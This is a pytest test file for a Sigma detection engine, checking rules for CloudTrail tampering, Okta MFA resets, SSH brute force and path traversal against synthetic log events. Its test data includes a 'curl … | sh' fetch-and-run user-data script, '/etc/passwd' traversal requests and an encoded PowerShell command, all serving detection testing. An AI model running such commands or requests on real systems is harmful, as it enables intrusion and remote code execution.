"""Sigma rules in our stream: SigmaHQ-style rules written here, evaluated against events parsed from raw
records (and the Panther CloudTrail/Okta fixtures), correlations, unsupported features reported with
file:line, and the --rules option of the CLI."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
import textwrap
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import orjson
import pytest

from access_audit.core.errors import RuleError
from access_audit.core.events import AccessEvent
from access_audit.core.records import RawRecord
from access_audit.detect import sigma as sigma_mod
from access_audit.detect.loader import load_rules
from access_audit.detect.rules import Detection, Rule
from access_audit.detect.sigma import SigmaCorrelation, SigmaMatchRule, load_sigma_file
from access_audit.parse import ParserRegistry
from access_audit.testing import FrozenClock

# ../shared beside the repo, or ACCESS_AUDIT_DATASETS (a worktree), as tests/conftest.py finds them; not
# imported from it: several conftest modules share that name in a whole-suite run
DATASETS = Path(os.environ.get("ACCESS_AUDIT_DATASETS") or Path(__file__).resolve().parents[3] / "shared" / "datasets")
NOW = datetime(2026, 11, 24, 12, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def registry() -> ParserRegistry:
    return ParserRegistry(clock=FrozenClock(NOW))


@pytest.fixture(scope="module")
def panther_rows():
    if not DATASETS.is_dir():
        if os.environ.get("CI"):
            pytest.fail(f"datasets missing at {DATASETS}")
        pytest.skip(f"datasets not found at {DATASETS}")

    def load(name: str) -> list[dict[str, Any]]:
        return [json.loads(x) for x in (DATASETS / "panther_tests" / f"{name}.jsonl").read_text().splitlines()
                if x.strip()]
    return load


_seq = iter(range(10**9))


def parse(registry: ParserRegistry, raw: str | dict[str, Any], log_type: str | None = None) -> AccessEvent:
    data = orjson.dumps(raw) if isinstance(raw, dict) else raw.encode()
    res = registry.parse(RawRecord(data=data, origin=f"test:{next(_seq)}", source="test", log_type=log_type))
    assert not res.dead_letters, res.dead_letters[0].reason
    (ev,) = res.events
    return ev


def write(folder: Path, name: str, text: str) -> Path:
    p = folder / name
    p.write_text(textwrap.dedent(text).lstrip())
    return p


def load_one(folder: Path, name: str, text: str) -> Rule:
    write(folder, name, text)
    rs = load_rules([folder / name], include_default=False)
    assert rs.errors == [], "\n".join(map(str, rs.errors))
    (rule,) = rs.rules
    return rule


def run(rule: Rule, events: list[AccessEvent]) -> list[Detection]:
    out: list[Detection] = []
    for ev in events:
        out += rule.evaluate(ev)
    return out


# --- real SigmaHQ rules against parsed events -------------------------------------------------

CLOUDTRAIL_CHANGE = """
    title: AWS CloudTrail Important Change
    id: 4db60cc0-36fb-42b7-9b58-a5b53019fb74
    status: test
    description: Detects disabling, deleting and updating of a Trail
    references:
        - https://docs.aws.amazon.com/awscloudtrail/latest/userguide/best-practices-security.html
    author: vitaliy0x1
    date: 2020/01/21
    modified: 2022/10/09
    tags:
        - attack.defense_evasion
        - attack.t1562.001
    logsource:
        product: aws
        service: cloudtrail
    detection:
        selection_source:
            eventSource: cloudtrail.amazonaws.com
            eventName:
                - StopLogging
                - UpdateTrail
                - DeleteTrail
        condition: selection_source
    falsepositives:
        - Valid change in a Trail
    level: medium
"""

AWS_ROOT = """
    title: AWS Root Credentials
    id: 8ad1600d-e9dc-4251-b0ee-a65268f29add
    status: test
    description: Detects AWS root account usage
    author: vitaliy0x1
    date: 2020-01-21
    tags:
        - attack.privilege_escalation
        - attack.t1078.004
    logsource:
        product: aws
        service: cloudtrail
    detection:
        selection_usertype:
            userIdentity.type: Root
        selection_eventtype:
            eventType: AwsServiceEvent
        condition: selection_usertype and not selection_eventtype
    falsepositives:
        - AWS Tasks That Require AWS Account Root User Credentials
    level: medium
"""


def trail(name: str, source: str = "cloudtrail.amazonaws.com", **extra: Any) -> dict[str, Any]:
    return {"eventVersion": "1.08", "eventTime": "2026-11-20T10:00:00Z", "eventSource": source, "eventName": name,
            "awsRegion": "eu-west-1", "sourceIPAddress": "203.0.113.7", "userAgent": "aws-cli/2.13.5 Python/3.11.4",
            "userIdentity": {"type": "IAMUser", "userName": "mallory", "principalId": "AIDAX",
                             "arn": "arn:aws:iam::111122223333:user/mallory", "accountId": "111122223333"},
            "requestParameters": {"name": "org-trail"}, "eventType": "AwsApiCall",
            "recipientAccountId": "111122223333", **extra}


def test_cloudtrail_rule_metadata_and_matching(tmp_path: Path, registry: ParserRegistry):
    rule = load_one(tmp_path, "aws_cloudtrail_disable_logging.yml", CLOUDTRAIL_CHANGE)
    assert isinstance(rule, SigmaMatchRule) and rule.kind == "sigma"
    assert rule.id == "aws_cloudtrail_disable_logging"  # the file stem
    assert rule.title == "AWS CloudTrail Important Change"
    assert rule.severity.value == "medium" and rule.mitre == ("T1562.001",)
    assert rule.tags == ("attack.defense_evasion", "attack.t1562.001")
    assert rule.false_positives == ("Valid change in a Trail",)
    assert rule.sigma_id == "4db60cc0-36fb-42b7-9b58-a5b53019fb74"
    assert rule.log_types == ("aws.cloudtrail",) and rule.tests == []
    assert rule.source == f"{tmp_path / 'aws_cloudtrail_disable_logging.yml'}:1"

    stop = parse(registry, trail("StopLogging"), "aws.cloudtrail")
    (det,) = rule.evaluate(stop)
    assert det.event is stop and det.evidence == [stop.id]
    assert run(rule, [parse(registry, trail("DeleteTrail")), parse(registry, trail("deletetrail"))])  # nocase
    for miss in (trail("CreateTrail"), trail("StopLogging", source="config.amazonaws.com")):
        assert rule.evaluate(parse(registry, miss)) == []


def test_sigma_alert_titles_say_who_and_from_where(tmp_path: Path, registry: ParserRegistry):
    """The alert dedups on user and address, so its title names both; what is unknown is said so."""
    from access_audit.alert.manager import AlertManager

    rule = load_one(tmp_path, "aws_cloudtrail_disable_logging.yml", CLOUDTRAIL_CHANGE)
    mgr = AlertManager(clock=FrozenClock(datetime(2026, 11, 21, tzinfo=UTC)))
    upd = mgr.process(rule.evaluate(parse(registry, trail("StopLogging")))[0])
    assert upd.alert.title == "AWS CloudTrail Important Change: mallory from 203.0.113.7"
    anon = trail("DeleteTrail", sourceIPAddress=None)
    del anon["userIdentity"]
    upd = mgr.process(rule.evaluate(parse(registry, anon))[0])
    assert upd.alert.title == "AWS CloudTrail Important Change: an unknown user from an unknown address"


def test_cloudtrail_rules_on_the_panther_fixtures(tmp_path: Path, registry: ParserRegistry, panther_rows):
    """Matches counted by the rules equal the counts computed from the vendor JSON itself."""
    write(tmp_path, "aws_cloudtrail_disable_logging.yml", CLOUDTRAIL_CHANGE)
    write(tmp_path, "aws_root_account_usage.yml", AWS_ROOT)
    rules = load_rules([tmp_path], include_default=False).by_id()
    change, root = rules["aws_cloudtrail_disable_logging"], rules["aws_root_account_usage"]
    got = {"change": 0, "root": 0, "stop_delete": 0}
    want = {"change": 0, "root": 0, "stop_delete": 0}
    for i, row in enumerate(panther_rows("AWS.CloudTrail")):
        res = registry.parse(RawRecord(data=orjson.dumps(row["event"]), origin=f"panther:{i}", source="panther"))
        if not res.events:
            continue  # the fixtures without a usable timestamp are no events at all
        (ev,) = res.events
        e = row["event"]
        name = str(e.get("eventName", ""))
        is_change = e.get("eventSource") == "cloudtrail.amazonaws.com" and name in (
            "StopLogging", "UpdateTrail", "DeleteTrail")
        ident = e.get("userIdentity") if isinstance(e.get("userIdentity"), dict) else {}
        is_root = ident.get("type") == "Root" and e.get("eventType") != "AwsServiceEvent"
        want["change"] += is_change
        want["stop_delete"] += is_change and name in ("StopLogging", "DeleteTrail")
        want["root"] += is_root
        fired = bool(change.evaluate(ev))
        got["change"] += fired
        got["stop_delete"] += fired and ev.event.action in ("StopLogging", "DeleteTrail")
        got["root"] += bool(root.evaluate(ev))
    assert got == want
    assert want["stop_delete"] >= 3 and want["root"] >= 10


OKTA_MFA = """
    title: Okta MFA Reset or Deactivated
    id: 50e068d7-1e6b-4054-87e5-0a592c40c7e0
    description: Detects when an attempt at deactivating  or resetting MFA.
    author: Austin Songer
    status: experimental
    date: 2021/09/21
    references:
        - https://developer.okta.com/docs/reference/api/system-log/
        - https://developer.okta.com/docs/reference/api/event-types/
    logsource:
      service: okta
    detection:
        selection:
            eventtype:
                - user.mfa.factor.deactivate
                - user.mfa.factor.reset_all
        condition: selection
    level: medium
    tags:
        - attack.persistence
    falsepositives:
     - If a MFA reset or deactivated was performed by a system administrator.
"""


def okta(event_type: str, user: str = "homer@springfield.gov", ip: str = "198.51.100.4", result: str = "SUCCESS",
         minute: int = 0, second: int = 0) -> dict[str, Any]:
    return {"uuid": f"u-{next(_seq)}", "published": f"2026-11-20T10:{minute:02d}:{second:02d}.000Z",
            "eventType": event_type, "version": "0", "severity": "INFO", "displayMessage": event_type,
            "actor": {"alternateId": user, "displayName": user.split("@")[0], "id": f"id-{user}", "type": "User"},
            "client": {"ipAddress": ip, "userAgent": {"rawUserAgent": "Mozilla/5.0"}},
            "outcome": {"result": result}}


def test_okta_rule_uses_the_vendor_field_names(tmp_path: Path, registry: ParserRegistry, panther_rows):
    rule = load_one(tmp_path, "okta_mfa_reset_or_deactivated.yml", OKTA_MFA)
    assert rule.log_types == ("okta.system",)  # "service: okta" alone names Okta
    assert run(rule, [parse(registry, okta("user.mfa.factor.deactivate")),
                      parse(registry, okta("user.mfa.factor.reset_all"))]) and \
        len(run(rule, [parse(registry, okta("user.mfa.factor.deactivate"))])) == 1
    assert run(rule, [parse(registry, okta("user.session.start")),
                      parse(registry, okta("user.mfa.factor.activate"))]) == []
    # the Panther Okta fixtures: the rule's count equals the one read from the JSON
    got = want = 0
    for i, row in enumerate(panther_rows("Okta.SystemLog")):
        res = registry.parse(RawRecord(data=orjson.dumps(row["event"]), origin=f"okta:{i}", source="p"))
        if res.events:
            # some fixtures spell the key "eventtype", as SigmaHQ's rule does
            etype = next((v for k, v in row["event"].items() if k.lower() == "eventtype"), None)
            want += str(etype) in ("user.mfa.factor.deactivate", "user.mfa.factor.reset_all")
            got += bool(rule.evaluate(res.events[0]))
    assert got == want and want >= 2


GITHUB_PUBLIC = """
    title: GitHub Repository Visibility Changed to Public
    id: 328fac83-8a48-4649-9010-658a86804f2b
    status: experimental
    description: Detects when a GitHub repository visibility is changed to public.
    author: Ivan Saakov
    date: 2026-05-10
    tags:
        - attack.exfiltration
        - attack.t1567.001
    logsource:
        product: github
        service: audit
    detection:
        selection:
            action: 'repo.change_visibility'
            visibility: 'public'
        condition: selection
    falsepositives:
        - Intentional open-source release of an internal project approved via change management
    level: high
"""


def github(action: str, **extra: Any) -> dict[str, Any]:
    return {"@timestamp": 1794650400000, "action": action, "actor": "octocat", "actor_id": 583231,
            "org": "insurer", "repo": "insurer/claims-api", "_document_id": f"d{next(_seq)}", **extra}


def test_github_visibility_rule(tmp_path: Path, registry: ParserRegistry):
    rule = load_one(tmp_path, "github_repository_visibility_changed_to_public.yml", GITHUB_PUBLIC)
    assert rule.severity.value == "high" and rule.mitre == ("T1567.001",)
    public = parse(registry, github("repo.change_visibility", visibility="public", previous_visibility="private"))
    assert public.event.dataset == "github.audit"
    assert len(rule.evaluate(public)) == 1
    for miss in (github("repo.change_visibility", visibility="private"), github("repo.create", visibility="public")):
        assert rule.evaluate(parse(registry, miss)) == []


SSHD_ERRORS = """
    title: Suspicious OpenSSH Daemon Error
    id: e76b413a-83d0-4b94-8e4c-85db4a5b8bdc
    status: test
    description: Detects suspicious SSH / SSHD error messages that indicate a fatal or suspicious error
    author: Florian Roth (Nextron Systems)
    date: 2017/06/30
    tags:
        - attack.initial_access
        - attack.t1190
    logsource:
        product: linux
        service: sshd
    detection:
        keywords:
            - 'unexpected internal error'
            - 'unknown or unsupported key type'
            - 'invalid certificate signing key'
            - 'error in libcrypto'
            - 'fatal: buffer_get_string: bad string'
            - 'Local: crc32 compensation attack'
            - 'bad client public DH value'
            - 'Corrupted MAC on input'
        condition: keywords
    falsepositives:
        - Unknown
    level: medium
"""


def test_sshd_keywords_rule(tmp_path: Path, registry: ParserRegistry):
    rule = load_one(tmp_path, "lnx_sshd_susp_ssh.yml", SSHD_ERRORS)
    assert rule.log_types == ("syslog",)
    hit = parse(registry, "Nov 20 10:00:00 web1 sshd[4711]: error: Corrupted MAC on input.")
    assert len(rule.evaluate(hit)) == 1
    assert rule.evaluate(parse(registry, "Nov 20 10:00:01 web1 sshd[4711]: FATAL: BUFFER_GET_STRING: BAD STRING"))
    for line in ("Nov 20 10:00:02 web1 sshd[4711]: Accepted password for deploy from 10.0.0.5 port 2222 ssh2",
                 "Nov 20 10:00:03 web1 sshd[4711]: error: Corrupted MAC"):
        assert rule.evaluate(parse(registry, line)) == []


PATH_TRAVERSAL = """
    title: Path Traversal Exploitation Attempts
    id: 7745c2ea-24a5-4290-b680-04359cb84b35
    status: test
    description: Detects path traversal exploitation attempts
    author: Subhash Popuri (@pbssubhash), Florian Roth (Nextron Systems)
    date: 2021-09-25
    tags:
        - attack.initial_access
        - attack.t1190
    logsource:
        category: webserver
    detection:
        selection:
            cs-uri-query|contains:
                - '../../../../../lib/password'
                - '../../../../windows/'
                - '../../../etc/'
                - '..%252f..%252f..%252fetc%252f'
        condition: selection
    falsepositives:
        - Internal vulnerability scanners
    level: medium
"""

SUCCESSFUL_TRAVERSAL = """
    title: Successful Path Traversal To Sensitive Files
    id: 5b1c8a35-2f59-4e9e-a8a1-9a3a31a0b001
    status: experimental
    description: A traversal request the server answered with content.
    author: access-audit tests
    date: 2026-11-20
    logsource:
        category: webserver
    detection:
        selection:
            c-uri|contains: '../'
            sc-status: 200
            cs-method:
                - GET
                - POST
        condition: selection
    level: high
"""


def ncsa(target: str, status: int = 200, method: str = "GET", agent: str = "curl/8.0") -> str:
    return f'203.0.113.9 - - [20/Nov/2026:11:00:00 +0100] "{method} {target} HTTP/1.1" {status} 512 "-" "{agent}"'


def test_webserver_rules(tmp_path: Path, registry: ParserRegistry):
    traversal = load_one(tmp_path, "web_path_traversal_exploitation_attempt.yml", PATH_TRAVERSAL)
    success = load_one(tmp_path, "web_successful_traversal.yml", SUCCESSFUL_TRAVERSAL)
    assert traversal.log_types == success.log_types == ("http",)
    attack = parse(registry, ncsa("/download?file=../../../etc/passwd"))
    assert attack.event.dataset == "http"
    assert traversal.evaluate(attack) and success.evaluate(attack)
    refused = parse(registry, ncsa("/download?file=../../../etc/passwd", status=403))
    assert traversal.evaluate(refused) and not success.evaluate(refused)
    assert not success.evaluate(parse(registry, ncsa("/download?file=../../../etc/passwd", method="HEAD")))
    assert not traversal.evaluate(parse(registry, ncsa("/etc/../../../passwd")))  # in the path, not the query
    assert not traversal.evaluate(parse(registry, ncsa("/download?file=report.pdf")))


def test_one_of_selections_and_not_filter(tmp_path: Path, registry: ParserRegistry):
    rule = load_one(tmp_path, "aws_sensitive_iam_change.yml", """
        title: Sensitive IAM Change Outside Automation
        id: 1f0b7c9e-8a7d-4a35-9a51-0d7c3b3c2a11
        status: experimental
        description: Access keys or login profiles created, policies attached, by someone other than automation.
        author: access-audit tests
        date: 2026-11-20
        logsource:
            product: aws
            service: cloudtrail
        detection:
            selection_keys:
                eventName: CreateAccessKey
            selection_login:
                eventName:
                    - CreateLoginProfile
                    - UpdateLoginProfile
            selection_policy:
                eventName|startswith: Attach
                requestParameters.policyArn|endswith: '/AdministratorAccess'
            filter_automation:
                userIdentity.arn|contains: ':assumed-role/terraform'
            filter_service:
                userIdentity.type: AWSService
            condition: 1 of selection_* and not 1 of filter_*
        level: high
    """)
    hits = [trail("CreateAccessKey", "iam.amazonaws.com"), trail("UpdateLoginProfile", "iam.amazonaws.com"),
            trail("AttachUserPolicy", "iam.amazonaws.com",
                  requestParameters={"policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})]
    terraform = trail("CreateAccessKey", "iam.amazonaws.com")
    terraform["userIdentity"] = {"type": "AssumedRole", "arn": "arn:aws:sts::1:assumed-role/terraform/ci"}
    service = trail("CreateAccessKey", "iam.amazonaws.com")
    service["userIdentity"] = {"type": "AWSService", "invokedBy": "sso.amazonaws.com"}
    misses = [terraform, service, trail("DeleteAccessKey", "iam.amazonaws.com"),
              trail("AttachUserPolicy", "iam.amazonaws.com",
                    requestParameters={"policyArn": "arn:aws:iam::aws:policy/ReadOnlyAccess"})]
    assert [bool(rule.evaluate(parse(registry, e))) for e in hits] == [True] * 3
    assert [bool(rule.evaluate(parse(registry, e))) for e in misses] == [False] * 4


# --- modifiers, values, condition language ----------------------------------------------------

def _b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


USER_DATA = "#!/bin/sh\ncurl -s http://203.0.113.66/x | sh\n"

# (detection, cloudtrail overrides, expected)
MODIFIER_CASES = [
    ("sel: {userAgent|contains|all: [aws-cli, python/3]}", {}, True),
    ("sel: {userAgent|contains|all: [aws-cli, boto3]}", {}, False),
    ("sel: {userAgent|contains: [boto3, AWS-CLI]}", {}, True),
    ("sel: {eventName|startswith: Stop}", {}, True),
    ("sel: {eventName|endswith: logging}", {}, True),
    ("sel: {eventName|endswith: Trail}", {}, False),
    (r"sel: {userAgent|re: '^aws-cli/2\.\d+'}", {}, True),
    (r"sel: {userAgent|re: '^AWS-CLI/2'}", {}, False),  # re is case-sensitive
    (r"sel: {userAgent|re|i: '^AWS-CLI/2'}", {}, True),
    (r"sel: {userAgent|re: 'Python/3\.1[01]'}", {}, True),  # searched, not anchored
    ("sel: {sourceIPAddress|cidr: 203.0.113.0/24}", {}, True),
    ("sel: {sourceIPAddress|cidr: [10.0.0.0/8, 192.168.0.0/16]}", {}, False),
    ("sel: {sourceIPAddress|cidr: '2001:db8::/32'}", {"sourceIPAddress": "2001:db8::7"}, True),
    ("sel: {errorCode|exists: true}", {"errorCode": "AccessDenied"}, True),
    ("sel: {errorCode|exists: true}", {}, False),
    ("sel: {errorCode|exists: false}", {}, True),
    ("sel: {errorCode: null}", {}, True),
    ("sel: {errorCode: null}", {"errorCode": "AccessDenied"}, False),
    ('sel: {requestParameters.userData|base64: "' + USER_DATA.replace("\n", "\\n") + '"}',
     {"requestParameters": {"userData": _b64(USER_DATA)}}, True),
    ("sel: {requestParameters.userData|base64offset|contains: 'curl -s http'}",
     {"requestParameters": {"userData": _b64(USER_DATA)}}, True),
    ("sel: {requestParameters.userData|base64offset|contains: 'wget'}",
     {"requestParameters": {"userData": _b64(USER_DATA)}}, False),
    ("sel: {requestParameters.maxResults|gt: 100}", {"requestParameters": {"maxResults": 1000}}, True),
    ("sel: {requestParameters.maxResults|gt: 100}", {"requestParameters": {"maxResults": "100"}}, False),
    ("sel: {requestParameters.maxResults|gte: 100}", {"requestParameters": {"maxResults": "100"}}, True),
    ("sel: {requestParameters.maxResults|lt: 10}", {"requestParameters": {"maxResults": 5}}, True),
    ("sel: {requestParameters.maxResults|lte: 10}", {"requestParameters": {"maxResults": 11}}, False),
    ("sel: {requestParameters.command|windash|contains: ' -enc '}",
     {"requestParameters": {"command": "powershell /enc SQBFAFgA"}}, True),
    ("sel: {eventName|startswith: [Delete, stop]}", {}, True),
    ("sel: {eventName|endswith: [Trail, LOGGING]}", {}, True),
    ("sel: {eventName|endswith: [Trail, Log]}", {}, False),
    ("sel: {eventName: [DeleteTrail, 'Stop*', 'Update?rail']}", {}, True),
    ("sel: {eventName: [DeleteTrail, 'Start*', 'Update?rail']}", {}, False),
    ("sel: {userAgent|contains: ['aws-*/2.13', boto3]}", {}, True),
    ("sel: {userAgent|contains: ['aws-*/9', boto3]}", {}, False),
    ("sel: [nothing-like-this, 'Stop*ing']", {}, True),
    ("sel: {eventName: 'Stop*ing'}", {}, True),
    ("sel: {eventName: 'Stop?ogging'}", {}, True),
    ("sel: {eventName: 'Stop?Logging'}", {}, False),
    (r"sel: {requestParameters.name: 'org\*trail'}", {"requestParameters": {"name": "org*trail"}}, True),
    (r"sel: {requestParameters.name: 'org\*trail'}", {"requestParameters": {"name": "org-trail"}}, False),
    ("sel: {eventName|cased: stoplogging}", {}, False),
    ("sel: {eventName: stoplogging}", {}, True),
    ("sel: {userIdentity.userName|fieldref: requestParameters.userName}",
     {"requestParameters": {"userName": "Mallory"}}, True),
    ("sel: {userIdentity.userName|fieldref: requestParameters.userName}",
     {"requestParameters": {"userName": "alice"}}, False),
    ("sel: {eventSource|neq: iam.amazonaws.com}", {}, True),
    ("sel: {eventTime|hour: 10}", {}, True),
    ("sel: {eventTime|hour: 3}", {}, False),
    ("sel: {readOnly: false}", {"readOnly": False}, True),
    ("sel: {requestParameters.flags: 7}", {"requestParameters": {"flags": "7"}}, True),
    ("sel: {resources.ARN|endswith: ':trail/org-trail'}",
     {"resources": [{"ARN": "arn:aws:s3:::logs"}, {"ARN": "arn:aws:cloudtrail:eu-west-1:1:trail/org-trail"}]}, True),
    ("sel: {userIdentity.sessionContext.sessionIssuer.userName: admin}", {}, False),
    ("sel: ['*StopLogging*', nothing-like-this]", {}, True),  # keywords search the raw record
    ("sel: {'|all': [StopLogging, mallory]}", {}, True),
    ("sel: {'|all': [StopLogging, alice]}", {}, False),
    ("sel:\n    - eventName: DeleteTrail\n    - eventName: StopLogging\n      awsRegion: eu-west-1", {}, True),
    ("sel:\n    - eventName: DeleteTrail\n    - {eventName: StopLogging, awsRegion: us-east-1}", {}, False),
]


@pytest.mark.parametrize(("detection", "overrides", "expected"), MODIFIER_CASES,
                         ids=[f"{i}:{c[0][:50]}" for i, c in enumerate(MODIFIER_CASES)])
def test_modifiers_and_values(tmp_path: Path, registry: ParserRegistry, detection: str, overrides: dict[str, Any],
                              expected: bool):
    body = textwrap.indent(detection, " " * 4)
    rule = load_one(tmp_path, "case.yml", f"""
title: Modifier case
logsource:
    product: aws
    service: cloudtrail
detection:
{body}
    condition: sel
level: low
""")
    ev = parse(registry, trail("StopLogging", **overrides), "aws.cloudtrail")
    assert bool(rule.evaluate(ev)) is expected


@pytest.mark.parametrize(("condition", "expected"), [
    ("a and b", True), ("a and c", False), ("a and not c", True), ("not (a or c)", False),
    ("(a or c) and not (c and b)", True), ("all of them", False), ("1 of them", True),
    ("all of a*", True), ("1 of x*", True), ("all of x*", False), ("a and (b or c) and not 1 of x*", False),
])
def test_condition_language(tmp_path: Path, registry: ParserRegistry, condition: str, expected: bool):
    rule = load_one(tmp_path, "cond.yml", f"""
        title: Condition case
        logsource: {{product: aws, service: cloudtrail}}
        detection:
            a: {{eventName: StopLogging}}
            a2: {{awsRegion: eu-west-1}}
            b: {{userIdentity.type: IAMUser}}
            c: {{userIdentity.type: Root}}
            x1: {{eventSource: cloudtrail.amazonaws.com}}
            x2: {{eventSource: iam.amazonaws.com}}
            condition: {condition}
        level: low
    """)
    assert bool(rule.evaluate(parse(registry, trail("StopLogging")))) is expected


def test_rule_applies_only_to_its_log_type(tmp_path: Path, registry: ParserRegistry):
    rule = load_one(tmp_path, "lnx_keyword.yml", """
        title: Keyword on auth logs
        logsource: {product: linux, service: auth}
        detection:
            keywords: [StopLogging]
            condition: keywords
    """)
    assert rule.evaluate(parse(registry, trail("StopLogging"))) == []  # a CloudTrail event
    assert rule.evaluate(parse(registry, "Nov 20 10:00:00 h sudo[1]: note StopLogging called"))


def test_raw_record_is_decoded_once_per_event(tmp_path: Path, registry: ParserRegistry,
                                              monkeypatch: pytest.MonkeyPatch):
    write(tmp_path, "aws_root_account_usage.yml", AWS_ROOT)
    write(tmp_path, "raw2.yml", """
        title: Raw field two
        logsource: {product: aws, service: cloudtrail}
        detection:
            sel: {requestParameters.name: org-trail, userIdentity.accountId: '111122223333'}
            condition: sel
    """)
    rules = load_rules([tmp_path], include_default=False).rules
    parsed = parse(registry, trail("StopLogging"))
    stored = AccessEvent.from_doc(parsed.to_doc())  # as read back from a store: no decoded record
    calls = []
    real = sigma_mod.orjson.loads
    monkeypatch.setattr(sigma_mod.orjson, "loads", lambda b: calls.append(1) or real(b))
    hits = []
    for _ in range(3):
        for r in rules:
            hits.append(bool(r.evaluate(parsed)))
    assert calls == [] and any(hits)  # the parser's decoded record is reused: no decode at all
    stored_hits = []
    for _ in range(3):
        for r in rules:
            stored_hits.append(bool(r.evaluate(stored)))
    assert len(calls) == 1 and stored_hits == hits  # decoded once, same verdicts


# --- correlations -----------------------------------------------------------------------------

SSH_BRUTE_FORCE = """
    title: SSH Failed Password
    id: 2b0d5e4c-7a1f-4c58-9a0e-6f4f3a1d7c01
    name: ssh_failed_password
    status: experimental
    description: One failed SSH password attempt (feeds the brute force correlation).
    logsource:
        product: linux
        service: sshd
    detection:
        keywords:
            - 'Failed password'
        condition: keywords
    level: informational
    ---
    title: SSH Brute Force From One Address
    id: 9e3b1f62-3c2a-4f0e-8b7d-2d4c6a8e0f02
    status: experimental
    description: Ten failed SSH logins from one address within five minutes.
    tags:
        - attack.credential-access
        - attack.t1110.001
    correlation:
        type: event_count
        rules:
            - ssh_failed_password
        group-by:
            - client_ip
        timespan: 5m
        condition:
            gte: 10
    falsepositives:
        - A misconfigured job retrying with an old password
    level: high
"""


def sshd(what: str, ip: str, t: int, user: str) -> str:
    ts = datetime(2026, 11, 20, 10, 0) + timedelta(seconds=t)
    return f"{ts:%b %d %H:%M:%S} web1 sshd[{4000 + t}]: {what} password for {user} from {ip} port {40000 + t} ssh2"


def failed(ip: str, t: int, user: str = "root") -> str:
    return sshd("Failed", ip, t, user)


def accepted(ip: str, t: int, user: str = "root") -> str:
    return sshd("Accepted", ip, t, user)


def test_event_count_correlation(tmp_path: Path, registry: ParserRegistry):
    write(tmp_path, "ssh_brute_force.yml", SSH_BRUTE_FORCE)
    rs = load_rules([tmp_path], include_default=False)
    assert rs.errors == []
    (rule,) = rs.rules  # the base rule feeds the correlation only (no generate: true)
    assert isinstance(rule, SigmaCorrelation) and rule.id == "sigma_ssh_brute_force_from_one_address"
    assert rule.kind == "sigma_correlation" and rule.correlation == "event_count"
    assert rule.severity.value == "high" and rule.mitre == ("T1110.001",) and rule.log_types == ("syslog",)
    assert rule.window == timedelta(minutes=5) and rule.need == 10 and rule.group_by == ["source.ip"]

    lines = [failed("198.51.100.23", i * 5) for i in range(9)] + [failed("192.0.2.77", i) for i in range(9)]
    assert run(rule, [parse(registry, x) for x in lines]) == []
    (det,) = rule.evaluate(parse(registry, failed("198.51.100.23", 50)))
    assert det.group == {"source.ip": "198.51.100.23"} and det.count == 10 and len(det.evidence) == 10
    assert det.dedup_key == "source.ip=198.51.100.23"
    rule.reset()
    spread = [parse(registry, failed("203.0.113.50", i * 60)) for i in range(10)]  # one a minute
    assert run(rule, spread) == []


def test_value_count_correlation_password_spraying(tmp_path: Path, registry: ParserRegistry):
    write(tmp_path, "okta_password_spraying.yml", """
        title: Okta Failed Sign-In
        name: okta_failed_sign_in
        status: experimental
        logsource:
            product: okta
            service: okta
        detection:
            selection:
                eventType: user.session.start
                outcome.result: FAILURE
            condition: selection
        level: low
        ---
        title: Okta Password Spraying
        status: experimental
        description: One address fails to sign in as five or more users within ten minutes.
        tags:
            - attack.credential-access
            - attack.t1110.003
        correlation:
            type: value_count
            rules: okta_failed_sign_in
            group-by:
                - client.ipAddress
            timespan: 10m
            condition:
                gte: 5
                field: actor.alternateId
        level: high
    """)
    (rule,) = load_rules([tmp_path], include_default=False).rules
    assert rule.id == "sigma_okta_password_spraying" and rule.group_by == ["source.ip"]
    ip = "198.51.100.99"
    evs = [parse(registry, okta("user.session.start", f"user{i}@insurer.example", ip, "FAILURE", minute=i))
           for i in range(4)]
    evs += [parse(registry, okta("user.session.start", "user0@insurer.example", ip, "FAILURE", minute=5)),
            parse(registry, okta("user.session.start", "user9@insurer.example", ip, "SUCCESS", minute=5)),
            parse(registry, okta("user.session.start", "user9@insurer.example", "192.0.2.1", "FAILURE", minute=5))]
    assert run(rule, evs) == []
    (det,) = rule.evaluate(parse(registry, okta("user.session.start", "user4@insurer.example", ip, "FAILURE",
                                                minute=6)))
    assert det.count == 5 and det.group == {"source.ip": ip} and det.context["distinct"] == 5
    assert sorted(det.context["sample_values"]) == [f"user{i}@insurer.example" for i in range(5)]
    rule.reset()
    slow = [parse(registry, okta("user.session.start", f"u{i}@insurer.example", ip, "FAILURE", minute=i * 3))
            for i in range(5)]  # 12 minutes from first to last
    assert run(rule, slow) == []


TEMPORAL = """
    title: SSH Failed Password
    name: ssh_failed
    logsource: {{product: linux, service: sshd}}
    detection:
        keywords: ['Failed password']
        condition: keywords
    ---
    title: SSH Accepted Login
    name: ssh_accepted
    logsource: {{product: linux, service: sshd}}
    detection:
        selection:
            - 'Accepted password'
            - 'Accepted publickey'
        condition: selection
    ---
    title: SSH Failures Then Success
    status: experimental
    correlation:
        type: {kind}
        rules:
            - ssh_failed
            - ssh_accepted
        group-by:
            - client_ip
        timespan: 10m
    level: high
"""


def test_temporal_ordered_correlation(tmp_path: Path, registry: ParserRegistry):
    write(tmp_path, "ssh_fail_then_success.yml", TEMPORAL.format(kind="temporal_ordered"))
    (rule,) = load_rules([tmp_path], include_default=False).rules
    assert rule.correlation == "temporal_ordered" and rule.need == 2
    ip = "198.51.100.23"
    assert run(rule, [parse(registry, accepted(ip, 0)), parse(registry, failed(ip, 10))]) == []  # wrong order
    rule.reset()
    assert run(rule, [parse(registry, failed(ip, 0)), parse(registry, accepted("192.0.2.9", 10))]) == []  # other ip
    rule.reset()
    assert run(rule, [parse(registry, failed(ip, 0)), parse(registry, accepted(ip, 11 * 60))]) == []  # too late
    rule.reset()
    dets = run(rule, [parse(registry, failed(ip, 0)), parse(registry, failed(ip, 5)),
                      parse(registry, accepted(ip, 60, user="deploy"))])
    (det,) = dets
    assert det.group == {"source.ip": ip} and det.event.user.name == "deploy" and len(det.evidence) == 2
    assert det.context["rules"] == ["SSH Failed Password", "SSH Accepted Login"]


def test_temporal_correlation_in_any_order(tmp_path: Path, registry: ParserRegistry):
    write(tmp_path, "ssh_fail_and_success.yml", TEMPORAL.format(kind="temporal"))
    (rule,) = load_rules([tmp_path], include_default=False).rules
    ip = "198.51.100.23"
    (det,) = run(rule, [parse(registry, accepted(ip, 0)), parse(registry, failed(ip, 10))])
    assert det.count == 2
